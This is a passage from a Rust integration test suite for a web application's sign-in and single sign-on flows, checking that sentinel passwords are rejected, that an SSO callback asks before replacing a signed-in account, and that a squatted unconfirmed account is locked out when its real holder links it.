        app.count("SELECT count(*) FROM users WHERE password_hash = '!no-password'")
            .await,
        2
    );
    let c = new_client();
    let res = app
        .call::<app::auth::api::SignIn>(
            &c,
            &[("email", "ann@acme.test"), ("password", "!no-password")],
        )
        .await;
    assert!(res.result.is_err());
    assert_eq!(signed_in_as(&app, &c).await, None);
}

async fn callback_of(app: &TestApp, c: &reqwest::Client, who: &str) -> reqwest::Response {
    callback_answer(app, c, who, who, |u| u).await
}

#[sqlx::test(migrations = false)]
async fn a_browser_signed_in_to_another_account_is_asked_before_a_provider_replaces_it(
    pool: PgPool,
) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = acme_with_sso(&app, &provider).await;
    // A page makes the OWNER's browser sign in at the provider as someone else.
    let res = callback_of(&app, &owner, "ann@acme.test").await;
    assert_eq!(res.status(), 200, "a page, not a silent switch");
    let page = res.text().await.unwrap();
    assert!(
        page.contains("it@acme.test") && page.contains("ann@acme.test"),
        "{page}"
    );
    assert_eq!(
        signed_in_as(&app, &owner).await.as_deref(),
        Some("it@acme.test")
    );
    // "Stay": the provider's session ends, the OWNER's stays.
    let stay = owner
        .post(app.url("/sso/switch"))
        .form(&[("choice", "stay")])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&stay), "/");
    assert_eq!(
        signed_in_as(&app, &owner).await.as_deref(),
        Some("it@acme.test")
    );
    assert_eq!(
        app.count(
            "SELECT count(*) FROM sessions s JOIN users u ON u.id = s.user_id
             WHERE u.email = 'ann@acme.test'"
        )
        .await,
        0
    );
    // Asked again, the person chooses to continue as Ann.
    let res = callback_of(&app, &owner, "ann@acme.test").await;
    assert_eq!(res.status(), 200);
    let go = owner
        .post(app.url("/sso/switch"))
        .form(&[("choice", "switch")])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&go), "/o/eu-central-1/acme");
    assert_eq!(
        signed_in_as(&app, &owner).await.as_deref(),
        Some("ann@acme.test")
    );
    // The same person signing in again is not asked.
    let res = callback_of(&app, &owner, "ann@acme.test").await;
    assert_eq!(res.status(), 303);
}

/// Someone signed up with an address of acme.test before its holder did (and never
/// confirmed it). When the holder links the account through Acme's provider, the
/// squatter's password and confirmation link stop working.
#[sqlx::test(migrations = false)]
async fn a_squatted_account_linked_by_its_holder_loses_the_squatters_password(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    ok(sign_up(&app, "Squatter", "sam@acme.test").await).await;
    let confirm = mail_with_subject(&app, "sam@acme.test", "Confirm").await;
    let c = new_client();
    let to = sign_in_via(&app, &c, "sam@acme.test", "sam@acme.test", |u| u).await;
    assert_eq!(to, "/signin?sso=confirm_link");
    assert_eq!(
        link_by_mail(&app, &c, "sam@acme.test").await,
        "/o/eu-central-1/acme"
    );
    assert_eq!(
        app.count(
            "SELECT count(*) FROM users WHERE email = 'sam@acme.test'
             AND email_verified_at IS NOT NULL AND password_hash = '!no-password'"
        )
        .await,
        1
    );
    // The squatter's password opens nothing, nor does the confirmation link.
    let squatter = new_client();
    let res = app
        .call::<app::auth::api::SignIn>(
            &squatter,
            &[("email", "sam@acme.test"), ("password", PASSWORD)],
        )
        .await;
    assert!(res.result.is_err());
    let res = app
        .call::<app::auth::api::VerifyEmail>(
            &squatter,
            &[
                ("token", token_of(&link_in(&confirm)).as_str()),
                ("password", PASSWORD),
            ],
        )
        .await;
    assert!(res.result.is_err());
    assert_eq!(signed_in_as(&app, &squatter).await, None);
}
